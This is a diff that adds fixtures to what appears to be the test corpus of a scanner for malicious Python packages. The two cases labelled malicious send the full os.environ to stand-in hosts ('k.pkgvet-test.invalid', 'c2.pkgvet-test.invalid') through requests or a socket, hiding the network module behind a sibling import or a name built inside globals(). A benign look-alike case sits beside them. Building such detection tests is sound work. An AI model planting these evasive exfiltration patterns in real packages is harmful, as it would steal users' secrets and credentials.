@@ -187,6 +187,29 @@ CASES = [
                  "        return json.load(fh)\n"),
              "continued_string_config/defaults.json": '{"retries": 3}\n',
          }, "benign", kind="wheel"),
+    Case("a network module imported plainly in a sibling (named nowhere else there), called "
+         "through the sibling's attribute", "plain-import-sibling", {
+             "plain_import_sibling/compat.py": "import requests\n",
+             "plain_import_sibling/__init__.py": (
+                 "import os\nfrom . import compat\n\n"
+                 "compat.requests.post('https://k.pkgvet-test.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", kind="wheel"),
+    Case("a network module imported plainly, then reached through globals() by a built name",
+         "plain-import-globals", {
+             "plain_import_globals/__init__.py": (
+                 "import os\nimport socket\n\n"
+                 "link = globals()['sock' + 'et'].create_connection(('c2.pkgvet-test.invalid', 443))\n"
+                 "link.sendall(repr(dict(os.environ)).encode())\n"),
+         }, "malicious", kind="wheel"),
+    Case("benign look-alike: an optional extra probed by importing it (generated API clients "
+         "import aiohttp only to fail early when the extra is missing)", "optional-extra-probe", {
+             "optional_extra_probe/__init__.py": "from .transport import AsyncTransport\n",
+             "optional_extra_probe/transport.py": (
+                 "try:\n    import aiohttp  # type: ignore  # noqa: F401\n"
+                 "except ImportError as exc:  # pragma: NO COVER\n"
+                 "    raise ImportError('install the async extra') from exc\n\n\n"
+                 "class AsyncTransport:\n    kind = 'async'\n"),
+         }, "benign", kind="wheel"),
     Case("a PEP 263 cookie naming raw_unicode_escape puts a lone surrogate in the text (the "
          "word screens failed on it, and two analyzers with them)", "surrogate-cookie", {
              "surrogate_cookie/__init__.py": (
